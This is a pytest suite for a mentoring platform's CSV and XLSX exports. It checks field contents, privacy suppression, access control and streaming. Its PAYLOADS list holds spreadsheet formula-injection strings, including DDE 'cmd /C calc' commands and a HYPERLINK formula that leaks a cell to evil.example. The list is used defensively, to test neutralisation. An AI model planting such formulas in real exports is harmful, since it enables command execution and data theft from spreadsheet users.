"""Exports for coordinators: what each dataset holds (and leaves out), CSV and XLSX that never run a
formula, who may download, and downloads that stream in a fixed number of queries."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import openpyxl
import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from mentora.accounts.models import Membership
from mentora.core.models import AuditEvent
from mentora.feedback.models import CheckIn, Evaluation
from mentora.goals.models import ChecklistItem, Goal, Milestone
from mentora.insights.exports import DATASETS
from mentora.insights.spreadsheets import TRIGGERS
from mentora.matching.models import MatchRun, MatchRunStatus, ProposedMatch
from mentora.matching.services import publish_run
from mentora.meetings.models import Meeting, MeetingStatus
from mentora.mentorships.models import Mentorship
from mentora.mentorships.services import create_mentorship, transition_mentorship
from mentora.programs.models import Enrollment, Program
from tests.conftest import World, client_for
from tests.factories import EnrollmentFactory, MembershipFactory, ProgramFactory, UserFactory

# OWASP's CSV-injection examples and their cousins: full-width forms, leading tab / CR / spaces.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "\t=1+1",
    "\r=1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    " =1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "-",
]


def _person(world: World, name: str, *, department: str = "Engineering", job_title: str = "Engineer",
            location: str = "Paris", level: int = 4, email: str | None = None) -> Membership:
    membership = MembershipFactory(organization=world.org, user=UserFactory(full_name=name, **({"email": email} if email else {})))
    profile = membership.profile
    profile.department, profile.job_title, profile.location, profile.level = department, job_title, location, level
    profile.save()
    return membership


def _download(client: Client, program: Program, dataset: str, fmt: str) -> bytes:
    response = client.get(reverse("insights:export", args=["acme", program.pk, dataset, fmt]))
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return b"".join(response.streaming_content)  # type: ignore[arg-type]


def _csv(client: Client, program: Program, dataset: str) -> list[dict[str, str]]:
    body = _download(client, program, dataset, "csv")
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx(client: Client, program: Program, dataset: str) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, program, dataset, "xlsx"))).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@dataclass
class Built:
    """A program with a published run, a manual pair, meetings, goals, check-ins and evaluations."""

    program: Program
    run: MatchRun
    from_run: Mentorship
    manual: Mentorship
    ana: Membership
    bo: Membership
    cy: Membership
    dee: Membership


@pytest.fixture
def built(world: World) -> Built:
    program = ProgramFactory(organization=world.org, name="Career Growth 2027")
    ana = _person(world, "Ana Silva", department="Sales", job_title="Account lead", location="Lisbon", level=7)
    bo = _person(world, "Bo Chen", department="Design", job_title="Designer", location="Berlin", level=3)
    cy = _person(world, "Cy Diaz", department="Sales", level=6)
    dee = _person(world, "Dee Evans", department="Design", level=2)
    EnrollmentFactory(program=program, membership=ana, role="mentor", capacity=2)
    EnrollmentFactory(program=program, membership=cy, role="mentor", capacity=1)
    EnrollmentFactory(program=program, membership=bo, role="mentee")
    EnrollmentFactory(program=program, membership=dee, role="mentee")
    EnrollmentFactory(program=program, membership=world.member, role="mentee", status="waitlisted")
    run = MatchRun.objects.create(program=program, status=MatchRunStatus.DONE, created_by=world.coordinator.user)
    ProposedMatch.objects.create(run=run, mentee=bo, mentor=ana, score=0.53)
    [from_run] = publish_run(run=run, published_by=world.coordinator.user)
    manual = create_mentorship(program=program, members=[(cy, "mentor"), (dee, "mentee")], created_by=world.coordinator.user)
    now, today = timezone.now(), timezone.localdate()

    def meeting(days: int, **fields: Any) -> Meeting:
        starts_at = now + timedelta(days=days)
        return Meeting.objects.create(mentorship=from_run, starts_at=starts_at, ends_at=starts_at + timedelta(hours=1),
                                      timezone="UTC", booked_by=ana.user, **fields)

    meeting(-20, happened=True, agenda="Secret agenda about the reorg")
    meeting(-10, happened=True)
    meeting(-5, happened=False)
    meeting(-3)  # attendance not recorded
    meeting(-2, status=MeetingStatus.CANCELLED, cancel_reason="Off sick")
    meeting(4)
    meeting(11)
    goal = Goal.objects.create(mentorship=from_run, owner=bo, title="Lead a client workshop", description="Private plan",
                               measure="Workshop held", achievable="a", relevance="r", target_on=today + timedelta(days=40))
    Milestone.objects.create(goal=goal, title="Outline", due_on=today - timedelta(days=9), done_at=now)
    Milestone.objects.create(goal=goal, title="Dry run", due_on=today - timedelta(days=2))
    Milestone.objects.create(goal=goal, title="Workshop", due_on=today + timedelta(days=30))
    ChecklistItem.objects.create(goal=goal, text="Book a room", done_at=now)
    CheckIn.objects.create(mentorship=from_run, respondent=bo, sequence=1, due_on=today - timedelta(days=6),
                           sent_at=now - timedelta(days=6), answered_at=now - timedelta(days=5), going_well=2,
                           meeting_regularly=False, usefulness=3, comment="My mentor is always late",
                           flag_to_coordinator="I would like another mentor")
    CheckIn.objects.create(mentorship=from_run, respondent=ana, sequence=1, due_on=today - timedelta(days=6),
                           sent_at=now - timedelta(days=6))
    CheckIn.objects.create(mentorship=manual, respondent=dee, sequence=1, due_on=today + timedelta(days=8))
    Evaluation.objects.create(mentorship=from_run, membership=bo, satisfaction=4, nps=9, outcomes="partly",
                              comments="Keep the workshops")
    return Built(program, run, from_run, manual, ana, bo, cy, dee)


# --- Contents --------------------------------------------------------------------------------------

def test_the_enrolments_export_lists_each_application_with_the_persons_work_details(world: World, built: Built) -> None:
    rows = _csv(client_for(world.coordinator), built.program, "enrolments")
    assert list(rows[0]) == ["Person", "Email", "Department", "Job title", "Site", "Job level", "Role", "Status",
                             "Applied on", "Decided on", "Mentee places", "Mentees matched", "Training completed on"]
    by_name = {row["Person"]: row for row in rows}
    assert set(by_name) == {"Ana Silva", "Bo Chen", "Cy Diaz", "Dee Evans", world.member.user.full_name}
    ana = by_name["Ana Silva"]
    assert (ana["Email"], ana["Department"], ana["Job title"], ana["Site"], ana["Job level"]) == (
        built.ana.user.email, "Sales", "Account lead", "Lisbon", "7")
    assert (ana["Role"], ana["Status"], ana["Mentee places"], ana["Mentees matched"]) == ("Mentor", "Approved", "2", "1")
    assert ana["Applied on"] == timezone.localdate().isoformat()
    assert by_name["Bo Chen"]["Mentee places"] == by_name["Bo Chen"]["Mentees matched"] == ""
    assert by_name[world.member.user.full_name]["Status"] == "Waitlisted"


def test_the_mentorships_export_names_members_and_gives_the_run_and_score_of_a_published_match(
        world: World, built: Built) -> None:
    rows = {int(row["Mentorship"]): row for row in _csv(client_for(world.coordinator), built.program, "mentorships")}
    assert set(rows) == {built.from_run.pk, built.manual.pk}
    matched = rows[built.from_run.pk]
    assert matched["Members"] == "Ana Silva (mentor); Bo Chen (mentee)"
    assert (matched["Kind"], matched["Status"], matched["How it started"]) == ("Mentor and mentee", "Active", "Published match")
    assert (matched["Match run"], matched["Match score (0–1)"], matched["Fit"]) == (str(built.run.pk), "0.53", "Strong fit · 53 %")
    assert matched["Started on"] == timezone.localdate().isoformat()
    manual = rows[built.manual.pk]
    assert manual["Members"] == "Cy Diaz (mentor); Dee Evans (mentee)"
    assert (manual["How it started"], manual["Match run"], manual["Match score (0–1)"]) == ("Set up by a coordinator", "", "")


def test_a_circle_from_a_run_scores_the_mean_of_its_seats_and_an_ended_one_gives_its_end(world: World) -> None:
    program = ProgramFactory(organization=world.org, form="circle")
    host = _person(world, "Host")
    EnrollmentFactory(program=program, membership=host, role="mentor", capacity=3)
    seats = [_person(world, f"Seat {n}") for n in range(3)]
    run = MatchRun.objects.create(program=program, status=MatchRunStatus.DONE)
    for seat, score in zip(seats, (0.2, 0.4, 0.6), strict=True):
        EnrollmentFactory(program=program, membership=seat, role="mentee")
        ProposedMatch.objects.create(run=run, mentee=seat, mentor=host, score=score, group=1, topic="Negotiation")
    [circle] = publish_run(run=run, published_by=world.coordinator.user)
    transition_mentorship(mentorship=circle, to_status="completed", actor=world.coordinator.user)
    [row] = _csv(client_for(world.coordinator), program, "mentorships")
    assert row["Members"] == "Host (facilitator); Seat 0 (mentee); Seat 1 (mentee); Seat 2 (mentee)"
    assert (row["Kind"], row["Topic"], row["Match score (0–1)"], row["Status"]) == ("Circle", "Negotiation", "0.40", "Completed")
    assert row["Ended on"] == timezone.localdate().isoformat()


def test_the_meetings_export_counts_meetings_per_mentorship_and_never_says_what_they_were_about(
        world: World, built: Built) -> None:
    body = _download(client_for(world.coordinator), built.program, "meetings", "csv")
    assert b"Secret agenda" not in body and b"Off sick" not in body
    rows = {int(row["Mentorship"]): row for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))}
    counts = {name: int(rows[built.from_run.pk][name]) for name in (
        "Booked", "Held", "Missed", "Cancelled", "Upcoming", "Attendance not recorded")}
    assert counts == {"Booked": 7, "Held": 2, "Missed": 1, "Cancelled": 1, "Upcoming": 2, "Attendance not recorded": 1}
    assert counts["Booked"] == sum(counts.values()) - counts["Booked"]
    today = timezone.localdate()
    assert rows[built.from_run.pk]["First meeting held on"] == (today - timedelta(days=20)).isoformat()
    assert rows[built.from_run.pk]["Last meeting held on"] == (today - timedelta(days=10)).isoformat()
    assert rows[built.manual.pk]["Booked"] == "0" and rows[built.manual.pk]["First meeting held on"] == ""


def test_the_goals_export_gives_progress_and_overdue_milestones_but_not_the_plan(world: World, built: Built) -> None:
    body = _download(client_for(world.coordinator), built.program, "goals", "csv")
    assert b"Private plan" not in body
    [row] = csv.DictReader(io.StringIO(body.decode("utf-8-sig")))
    assert (row["Goal"], row["Owner"], row["Owner's role"], row["Status"]) == ("Lead a client workshop", "Bo Chen", "Mentee", "Not started")
    assert (row["Milestones done"], row["Milestones"], row["Milestones overdue"]) == ("1", "3", "1")
    assert (row["Steps done"], row["Steps"], row["Progress (%)"]) == ("1", "1", "50")
    assert row["Target date"] == (timezone.localdate() + timedelta(days=40)).isoformat()


def test_the_check_ins_export_says_who_answered_and_what_was_flagged_without_any_answer(world: World, built: Built) -> None:
    body = _download(client_for(world.coordinator), built.program, "check-ins", "csv")
    assert b"always late" not in body and b"another mentor" not in body
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert "Going well" not in "".join(rows[0])  # no rating column
    states = {(int(r["Mentorship"]), r["Respondent's role"]): (r["State"], r["Flagged to a coordinator"]) for r in rows}
    assert states == {
        (built.from_run.pk, "Mentee"): ("Answered", "yes"),
        (built.from_run.pk, "Mentor"): ("Waiting for an answer", "no"),
        (built.manual.pk, "Mentee"): ("Not sent yet", "no"),
    }


def _answer_check_ins(world: World, program: Program, people: int, *, sequence: int = 1) -> None:
    for n in range(people):
        mentor, mentee = _person(world, f"Mentor {sequence}-{n}"), _person(world, f"Mentee {sequence}-{n}")
        EnrollmentFactory(program=program, membership=mentor, role="mentor", capacity=1)
        ship = create_mentorship(program=program, members=[(mentor, "mentor"), (mentee, "mentee")], created_by=None)
        CheckIn.objects.create(mentorship=ship, respondent=mentee, sequence=sequence, due_on=timezone.localdate(),
                               sent_at=timezone.now(), answered_at=timezone.now(), going_well=4 if n % 2 else 5,
                               meeting_regularly=n != 0, usefulness=3, comment="Private comment")
        Evaluation.objects.create(mentorship=ship, membership=mentee, satisfaction=5, nps=10 if n else 3, outcomes="fully")
        if sequence == 1 and n < 2:
            Evaluation.objects.create(mentorship=ship, membership=mentor, satisfaction=2, nps=0, outcomes="not")


def test_check_in_results_show_a_round_only_when_at_least_five_people_answered_it(world: World) -> None:
    program = ProgramFactory(organization=world.org)
    _answer_check_ins(world, program, 6, sequence=1)
    _answer_check_ins(world, program, 4, sequence=2)
    body = _download(client_for(world.coordinator), program, "check-in-results", "csv")
    assert b"Private comment" not in body
    round_1, round_2 = csv.DictReader(io.StringIO(body.decode("utf-8-sig")))
    assert (round_1["Round"], round_1["People who answered"], round_1["Answers"]) == ("Round 1", "6", "6")
    assert (round_1["Going well (mean, 1–5)"], round_1["Useful (mean, 1–5)"], round_1["Meeting as agreed (%)"]) == ("4.5", "3.0", "83")
    assert round_2["Round"] == "Round 2" and round_2["People who answered"] == round_2["Going well (mean, 1–5)"] == ""
    assert round_2["Note"].startswith("Hidden: fewer than 5 people")


def test_evaluation_results_hide_a_small_role_and_its_complement_but_show_everyone(world: World) -> None:
    """Two mentors answered: their figures are hidden, and the mentees' too, or they could be
    worked out from the total of everyone."""
    program = ProgramFactory(organization=world.org)
    _answer_check_ins(world, program, 6)
    body = _download(client_for(world.coordinator), program, "evaluations", "csv")
    rows = {row["Who answered"]: row for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))}
    assert list(rows) == ["Mentors", "Mentees", "Everyone"]
    assert rows["Mentors"]["People"] == rows["Mentees"]["People"] == rows["Mentees"]["NPS (−100 to 100)"] == ""
    everyone = rows["Everyone"]
    assert (everyone["People"], everyone["Promoters (9–10)"], everyone["Detractors (0–6)"]) == ("8", "5", "3")
    assert everyone["NPS (−100 to 100)"] == "25"  # (5 − 3) / 8
    assert (everyone["Outcomes reached: fully"], everyone["Not yet"], everyone["Satisfaction (mean, 1–5)"]) == ("6", "2", "4.3")


def test_evaluation_results_show_each_role_when_every_group_is_large_enough(world: World) -> None:
    program = ProgramFactory(organization=world.org)
    _answer_check_ins(world, program, 7)
    for ship in Mentorship.objects.filter(program=program).order_by("pk")[2:7]:
        mentor = ship.members.get(role="mentor").membership
        Evaluation.objects.get_or_create(mentorship=ship, membership=mentor,
                                         defaults={"satisfaction": 3, "nps": 8, "outcomes": "partly"})
    rows = {row["Who answered"]: row for row in _csv(client_for(world.coordinator), program, "evaluations")}
    assert (rows["Mentors"]["People"], rows["Mentors"]["Passives (7–8)"]) == ("7", "5")
    assert (rows["Mentees"]["People"], rows["Mentees"]["NPS (−100 to 100)"]) == ("7", "71")  # 6 promoters, 1 detractor
    assert rows["Everyone"]["People"] == "14"


def test_participation_by_department_hides_small_departments_with_a_complement(world: World) -> None:
    program = ProgramFactory(organization=world.org)
    for department, people in (("Sales", 9), ("Legal", 2), ("Design", 6)):
        for n in range(people):
            EnrollmentFactory(program=program, membership=_person(world, f"{department} {n}", department=department))
    rows = {row["Department"]: row for row in _csv(client_for(world.coordinator), program, "departments")}
    assert rows["Sales"]["People who applied"] == "9" and rows["Sales"]["Approved"] == "9"
    assert rows["Legal"]["People who applied"] == rows["Design"]["People who applied"] == ""
    assert rows["All departments"]["People who applied"] == "17"


# --- Formula injection -----------------------------------------------------------------------------

@pytest.fixture
def poisoned(world: World) -> Program:
    """A program whose people, job titles, departments, sites, topics and goal titles are payloads."""
    program = ProgramFactory(organization=world.org, name="=Payroll 2027")
    for index, payload in enumerate(PAYLOADS):
        mentor = _person(world, payload, department=payload, job_title=payload, location=payload,
                         email=f"=cmd{index}+1@evil.example")
        mentee = _person(world, f"Mentee {index}", job_title=payload)
        EnrollmentFactory(program=program, membership=mentor, role="mentor", capacity=1)
        EnrollmentFactory(program=program, membership=mentee, role="mentee")
        ship = create_mentorship(program=program, members=[(mentor, "mentor"), (mentee, "mentee")], created_by=None,
                                 topic=payload)
        Goal.objects.create(mentorship=ship, owner=mentor, title=payload, description="d", measure="m", achievable="a",
                            relevance="r", target_on=timezone.localdate())
    return program


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _as_excel_reads(text: str) -> str:
    """Undo OOXML's `_xHHHH_` escapes (a carriage return is stored as `_x000D_`), as Excel does."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found.group(1), 16)), text)


def _assert_harmless(text: str) -> None:
    assert text[:1] not in TRIGGERS and text.lstrip(" \n\u00a0\u3000")[:1] not in TRIGGERS, repr(text)


@pytest.mark.parametrize("dataset", ["enrolments", "mentorships", "meetings", "goals", "departments"])
def test_no_csv_cell_can_run_as_a_formula(world: World, poisoned: Program, dataset: str) -> None:
    body = _download(client_for(world.coordinator), poisoned, dataset, "csv")
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]
    for cell in cells:
        if not _is_number(cell):
            _assert_harmless(cell)
    if dataset in ("enrolments", "goals"):  # the payloads are kept, neutralised, not dropped
        assert {"'" + payload for payload in PAYLOADS} <= set(cells)


@pytest.mark.parametrize("dataset", ["enrolments", "mentorships", "meetings", "goals", "departments"])
def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(world: World, poisoned: Program, dataset: str) -> None:
    data = _download(client_for(world.coordinator), poisoned, dataset, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml and 't="str"' not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    text = _as_excel_reads(cell.value)
                    _assert_harmless(text)
                    texts.append(text)
    if dataset in ("enrolments", "goals"):
        assert {"'" + payload for payload in PAYLOADS} <= set(texts)


def test_xlsx_has_a_bold_frozen_header_and_typed_cells(world: World, built: Built) -> None:
    data = _download(client_for(world.coordinator), built.program, "enrolments", "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    assert sheet.title == "Enrolments" and sheet.freeze_panes == "A2"
    header = [cell for cell in sheet[1]]
    assert all(cell.font.bold for cell in header) and header[0].value == "Person"
    columns = {cell.value: index for index, cell in enumerate(header)}
    ana = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Ana Silva")
    assert ana[columns["Job level"]].value == 7 and ana[columns["Mentee places"]].data_type == "n"
    applied = ana[columns["Applied on"]]
    assert applied.is_date and applied.value.date() == timezone.localdate()
    about = workbook.worksheets[1]
    assert about.title == "About this table" and about["B1"].value == "Career Growth 2027"


def test_a_negative_number_stays_a_number(world: World) -> None:
    """An NPS below zero is a number in both formats, not a neutralised text."""
    program = ProgramFactory(organization=world.org)
    for n in range(5):
        mentor, mentee = _person(world, f"M{n}"), _person(world, f"E{n}")
        EnrollmentFactory(program=program, membership=mentor, role="mentor", capacity=1)
        ship = create_mentorship(program=program, members=[(mentor, "mentor"), (mentee, "mentee")], created_by=None)
        Evaluation.objects.create(mentorship=ship, membership=mentee, satisfaction=1, nps=2, outcomes="not")
    client = client_for(world.coordinator)
    [mentees, everyone] = _csv(client, program, "evaluations")
    assert mentees["NPS (−100 to 100)"] == everyone["NPS (−100 to 100)"] == "-100"
    rows = _xlsx(client, program, "evaluations")
    assert rows[1][3] == -100 and isinstance(rows[1][3], int | float)


# --- Access, audit, names --------------------------------------------------------------------------

def test_a_download_is_written_to_the_audit_log_and_named_after_the_program_and_day(world: World, built: Built) -> None:
    client = client_for(world.coordinator)
    response = client.get(reverse("insights:export", args=["acme", built.program.pk, "enrolments", "xlsx"]))
    day = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="career-growth-2027-enrolments-{day}.xlsx"'
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "private, no-store"
    assert int(response["Content-Length"]) == len(b"".join(response.streaming_content))  # type: ignore[arg-type]
    event = AuditEvent.objects.get(action="insights.export")
    assert (event.actor, event.organization, event.target_id) == (world.coordinator.user, world.org, str(built.program.pk))
    assert event.details == {"dataset": "enrolments", "format": "xlsx"}


@pytest.mark.parametrize(("dataset", "fmt"), [("secrets", "csv"), ("enrolments", "pdf"), ("enrolments", "CSV")])
def test_an_unknown_dataset_or_format_is_missing(world: World, built: Built, dataset: str, fmt: str) -> None:
    response = client_for(world.coordinator).get(reverse("insights:export", args=["acme", built.program.pk, dataset, fmt]))
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="insights.export").exists()


@pytest.mark.parametrize("name", ["insights:export", "insights:exports"])
def test_another_organizations_program_answers_like_a_missing_one(world: World, name: str) -> None:
    rest: list[Any] = ["enrolments", "csv"] if name == "insights:export" else []
    args, missing = ["acme", world.other_program.pk, *rest], ["acme", 999_999, *rest]
    client = client_for(world.admin)
    other, absent = client.get(reverse(name, args=args)), client.get(reverse(name, args=missing))
    assert other.status_code == absent.status_code == 404
    assert other.content == absent.content


@pytest.mark.parametrize("role", ["member", "mentor", "mentee"])
def test_a_member_cannot_download_even_their_own_program(world: World, role: str) -> None:
    client = client_for(getattr(world, role))
    for fmt in ("csv", "xlsx"):
        assert client.get(reverse("insights:export", args=["acme", world.program.pk, "enrolments", fmt])).status_code == 404
    assert client.get(reverse("insights:exports", args=["acme", world.program.pk])).status_code == 404


def test_the_exports_page_describes_each_dataset_with_its_rows_and_both_downloads(world: World, built: Built) -> None:
    response = client_for(world.coordinator).get(reverse("insights:exports", args=["acme", built.program.pk]))
    page = response.content.decode()
    assert response.status_code == 200
    for dataset in DATASETS.values():
        assert str(dataset.title) in page
        for fmt in ("csv", "xlsx"):
            assert reverse("insights:export", args=["acme", built.program.pk, dataset.slug, fmt]) in page
    assert "5 enrolments" in page and "2 mentorships" in page and "1 goal" in page and "3 check-ins" in page
    assert "Motivations, answers to enrolment questions" in page  # what is left out, in words


# --- Queries and streaming -------------------------------------------------------------------------

def _grow(world: World, program: Program, n: int) -> None:
    """n more pairs, each with a meeting, a goal with a milestone, a check-in and an evaluation."""
    now = timezone.now()
    for index in range(n):
        mentor, mentee = _person(world, f"Mentor {index}", department=f"D{index % 4}"), _person(world, f"Mentee {index}")
        EnrollmentFactory(program=program, membership=mentor, role="mentor", capacity=1)
        EnrollmentFactory(program=program, membership=mentee, role="mentee")
        ship = create_mentorship(program=program, members=[(mentor, "mentor"), (mentee, "mentee")], created_by=None)
        Meeting.objects.create(mentorship=ship, starts_at=now - timedelta(days=1), ends_at=now - timedelta(hours=23),
                               timezone="UTC", happened=True)
        goal = Goal.objects.create(mentorship=ship, owner=mentee, title="Goal", description="d", measure="m",
                                   achievable="a", relevance="r", target_on=timezone.localdate())
        Milestone.objects.create(goal=goal, title="Step", due_on=timezone.localdate())
        CheckIn.objects.create(mentorship=ship, respondent=mentee, sequence=1, due_on=timezone.localdate(), sent_at=now,
                               answered_at=now, going_well=4, meeting_regularly=True, usefulness=4)
        Evaluation.objects.create(mentorship=ship, membership=mentee, satisfaction=4, nps=9, outcomes="fully")


def _queries(client: Client, url: str) -> tuple[int, int]:
    """Queries to answer `url` and read the whole body; and how many bytes the body held."""
    from django.core.cache import cache

    cache.clear()  # the page's badges are cached: count each page as a first view
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        assert response.status_code == 200
        body = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[arg-type]
    return len(captured), len(body)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_download_runs_the_same_queries_for_3_or_30_mentorships(world: World, fmt: str) -> None:
    program = ProgramFactory(organization=world.org)
    client = client_for(world.coordinator)
    urls = {slug: reverse("insights:export", args=["acme", program.pk, slug, fmt]) for slug in DATASETS}
    _grow(world, program, 3)
    small = {slug: _queries(client, url) for slug, url in urls.items()}
    _grow(world, program, 27)
    large = {slug: _queries(client, url) for slug, url in urls.items()}
    for slug in DATASETS:
        print(f"{slug}.{fmt}: {small[slug][0]} queries for 3 mentorships, {large[slug][0]} for 30")
        assert large[slug][0] == small[slug][0], slug
        assert small[slug][0] <= 8, slug
    assert all(large[slug][1] > small[slug][1] for slug in ("enrolments", "mentorships", "meetings", "goals", "check-ins"))


def test_the_exports_page_runs_the_same_queries_for_3_or_30_mentorships(world: World) -> None:
    program = ProgramFactory(organization=world.org)
    client = client_for(world.coordinator)
    url = reverse("insights:exports", args=["acme", program.pk])
    _grow(world, program, 3)
    small = _queries(client, url)[0]
    _grow(world, program, 27)
    assert _queries(client, url)[0] == small
    assert small <= 20


def _add_enrolments(program: Program, start: int, stop: int) -> None:
    users = UserFactory._meta.model.objects.bulk_create(
        UserFactory.build(email=f"p{n}@acme.test", full_name=f"Person Number {n}") for n in range(start, stop))
    people = Membership.objects.bulk_create(Membership(organization=program.organization, user=user) for user in users)
    Enrollment.objects.bulk_create(Enrollment(program=program, membership=m, role="mentee") for m in people)


def _stream(client: Client, url: str) -> tuple[int, int, int, int, int]:
    """Read a download part by part: how many parts, bytes, the largest part, the peak memory
    allocated while reading, and the queries run."""
    response = client.get(url)
    assert response.streaming
    parts = size = largest = 0
    tracemalloc.start()
    try:
        with CaptureQueriesContext(connection) as captured:
            for part in response.streaming_content:  # type: ignore[union-attr]
                parts, size, largest = parts + 1, size + len(part), max(largest, len(part))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return parts, size, largest, peak, len(captured)


def test_ten_thousand_enrolments_stream_line_by_line_in_flat_memory(world: World) -> None:
    """The CSV arrives as one small part per row, built as it is read: twice the rows take twice the
    bytes but no more memory (it is bounded by the CHUNK rows fetched at a time), and the queries
    do not grow."""
    program = ProgramFactory(organization=world.org)
    client = client_for(world.coordinator)
    url = reverse("insights:export", args=["acme", program.pk, "enrolments", "csv"])
    _add_enrolments(program, 0, 5_000)
    _stream(client, url)  # warm up: one-time allocations (imports, caches) stay out of the comparison
    small = _stream(client, url)
    _add_enrolments(program, 5_000, 10_000)
    parts, size, largest, peak, queries = _stream(client, url)
    print(f"5,000 rows: {small[1]} bytes, peak {small[3]} B; 10,000 rows: {parts} parts, {size} bytes, "
          f"largest part {largest} B, peak {peak} B, {queries} queries")
    assert parts == 10_001 and largest < 200
    assert size > 1.9 * small[1]
    # Holding the rows would add megabytes (10,000 tuples of 13 values); building the CSV whole, at
    # least its 700 KB. A warm process still shows 10-18 % more peak at 10,000 rows than at 5,000
    # (175-290 KB, SQLite more than PostgreSQL), not yet explained: the bound allows it, and no more.
    assert peak < 1.25 * small[3]
    assert queries == small[4] <= 3


def test_under_asgi_the_csv_streams_asynchronously_in_batches(world: World, built: Built) -> None:
    """Django would read a synchronous iterator to its end before sending a byte under ASGI: the
    export hands it an asynchronous one instead."""
    client = AsyncClient()
    client.force_login(world.coordinator.user)
    url = reverse("insights:export", args=["acme", built.program.pk, "mentorships", "csv"])

    async def download() -> tuple[bool, bytes]:
        response = await client.get(url)
        parts = [part async for part in response.streaming_content]
        return response.is_async, b"".join(parts)

    is_async, body = async_to_sync(download)()
    assert is_async
    assert "Ana Silva (mentor); Bo Chen (mentee)" in body.decode("utf-8-sig")


def test_dates_are_given_in_the_exporters_time_zone(world: World, built: Built) -> None:
    """An answer at 23:30 UTC is on the next day for a coordinator in Tokyo."""
    late = datetime.combine(timezone.localdate() - timedelta(days=3), datetime.min.time(), tzinfo=UTC) + timedelta(
        hours=23, minutes=30)
    CheckIn.objects.filter(respondent=built.bo).update(answered_at=late)
    profile = world.coordinator.profile
    profile.timezone = "Asia/Tokyo"
    profile.save()
    rows = _csv(client_for(world.coordinator), built.program, "check-ins")
    answered = next(row["Answered on"] for row in rows if row["State"] == "Answered")
    assert date.fromisoformat(answered) == late.date() + timedelta(days=1)
